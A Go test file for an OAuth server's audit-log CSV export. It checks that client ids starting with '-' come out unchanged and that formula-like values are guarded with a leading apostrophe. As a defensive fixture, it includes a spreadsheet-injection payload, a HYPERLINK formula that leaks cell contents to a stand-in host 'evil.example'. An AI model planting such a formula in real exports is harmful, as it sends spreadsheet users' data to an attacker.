package web_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/latchkey/latchkey/models"
	"golang.org/x/oauth2/clientcredentials"
)

// TestAuditCSVKeepsIdentifiers exports the audit trail of a client whose
// random client_id starts with "-": the id comes out exactly as issued in
// both the actor and client_id columns, while a reason that a spreadsheet
// would run as a formula is still guarded with a leading '.
func TestAuditCSVKeepsIdentifiers(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	// Client ids are random base64url: about one in 64 starts with "-".
	var cc *models.CreatedClient
	for i := 0; i < 2000 && (cc == nil || !strings.HasPrefix(cc.Client.ClientID, "-")); i++ {
		var err error
		cc, err = ts.st.CreateClient(t.Context(), models.NewClient{Name: "Dash " + strconv.Itoa(i), Type: models.ClientConfidential,
			GrantTypes: []models.GrantType{models.GrantClientCredentials}})
		if err != nil {
			t.Fatal(err)
		}
	}
	id := cc.Client.ClientID
	if !strings.HasPrefix(id, "-") {
		t.Fatalf("no client id starting with - in 2000 tries (last %q)", id)
	}
	cfg := clientcredentials.Config{ClientID: id, ClientSecret: cc.Secret, TokenURL: ts.URL + "/o/token/"}
	tok, err := cfg.Token(ts.ctx())
	if err != nil {
		t.Fatal(err)
	}
	// The client revokes its own token: the event's actor is its client_id.
	resp, _ := postForm(t, ts, "/o/revoke_token/", url.Values{"token": {tok.AccessToken}, "client_id": {id}, "client_secret": {cc.Secret}}, nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("revoke: got %d, want 200", resp.StatusCode)
	}
	// A staff revocation of the client's tokens with a formula for a reason.
	if _, err := cfg.Token(ts.ctx()); err != nil {
		t.Fatal(err)
	}
	const formula = `=HYPERLINK("https://evil.example/?leak="&A1,"click")`
	if _, err := ts.st.Revoke(t.Context(), models.RevokeRequest{ClientID: cc.Client.ID, Actor: models.Staff(ts.f.Admin), Reason: formula}); err != nil {
		t.Fatal(err)
	}

	b := newBrowser(t, ts)
	b.login("admin")
	resp, body := b.get("/admin/audit.csv?client=" + url.QueryEscape(id))
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("export: got %d, want 200", resp.StatusCode)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int { return slices.Index(recs[0], name) }
	var byClient, byStaff []string
	for _, r := range recs[1:] {
		switch r[col("actor_type")] {
		case string(models.ActorClient):
			byClient = r
		case string(models.ActorStaff):
			byStaff = r
		}
	}
	if byClient == nil || byStaff == nil {
		t.Fatalf("rows: got %q, want one by the client and one by staff", recs[1:])
	}
	for _, c := range []struct {
		what string
		got  string
	}{{"actor", byClient[col("actor")]}, {"client_id of the client's event", byClient[col("client_id")]},
		{"client_id of the staff event", byStaff[col("client_id")]}} {
		if c.got != id {
			t.Errorf("%s: got %q, want %q", c.what, c.got, id)
		}
	}
	if got := byStaff[col("reason")]; got != "'"+formula {
		t.Errorf("reason: got %q, want it guarded as %q", got, "'"+formula)
	}

	// A username typed at the login page is not ours: "-1-1" would compute.
	newBrowser(t, ts).tryLogin("-1-1", "guess", nil)
	_, body = b.get("/admin/audit.csv?action=" + url.QueryEscape(string(models.ActionLoginFailure)))
	recs, err = csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("login failure export: %v, %q", err, recs)
	}
	if got := recs[1][col("actor")]; got != "'-1-1" {
		t.Errorf("typed username in the actor column: got %q, want it guarded as %q", got, "'-1-1")
	}
}
